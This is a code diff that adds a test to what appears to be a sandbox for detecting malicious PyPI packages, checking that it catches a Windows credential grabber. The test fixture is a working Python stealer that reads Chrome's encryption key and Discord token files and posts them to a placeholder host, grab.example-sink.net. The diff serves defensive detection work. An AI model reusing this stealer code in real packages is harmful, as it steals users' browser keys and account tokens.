@@ -319,6 +319,24 @@ def start(token):
     expect(dynamicFindings(run).signals.map((s) => s.rule).sort()).toEqual(['sandbox-contacts-drop-host', 'sandbox-honeytoken-egress', 'sandbox-network', 'sandbox-system-info-egress'])
   })
 
+  it('gives a Windows stealer the folders it asks the environment for, with the stores it looks for planted there', { timeout: 60_000 }, async () => {
+    // a grabber that joins paths onto os.getenv('APPDATA') stops at a TypeError where the variable is missing
+    const init = `import os, json, base64, urllib.request
+roaming, local = os.getenv('APPDATA'), os.getenv('LOCALAPPDATA')
+state = json.load(open(os.path.join(local, 'Google', 'Chrome', 'User Data', 'Local State')))
+key = base64.b64decode(state['os_crypt']['encrypted_key'])[5:]
+store = os.path.join(roaming, 'discord', 'Local Storage', 'leveldb')
+loot = ''.join(open(os.path.join(store, f), errors='ignore').read() for f in os.listdir(store) if f.endswith('.log'))
+urllib.request.urlopen('https://grab.example-sink.net/d', data=json.dumps({'u': os.getenv('USERPROFILE'), 'k': key.hex(), 't': loot}).encode())
+`
+    const sdist = await pypiEcosystem.readArtifact(await sdistTarGz('grabpkg', '1.0.0', { 'grabpkg/__init__.py': init }), DEFAULT_ARCHIVE_LIMITS, { filename: 'grabpkg-1.0.0.tar.gz' })
+    const run = await runSandbox(pypiEcosystem, sdist, ONE)
+    expect(run.runs[0]!.steps.find((s) => s.label === 'import grabpkg')?.exitCode).toBe(0)
+    const found = dynamicFindings(run).signals
+    expect(found.find((s) => s.rule === 'sandbox-honeytoken-egress')?.message).toMatch(/Discord token .*grab\.example-sink\.net/)
+    expect(found.map((s) => s.rule)).toContain('sandbox-reads-secrets')
+  })
+
   it('runs the install command a pip install runs, where a cmdclass override waits; setuptools itself builds nothing', { timeout: 60_000 }, async () => {
     // egg_info alone (pip's metadata step) never reaches an overridden install; a wheel build does
     const setup = `import os, urllib.request
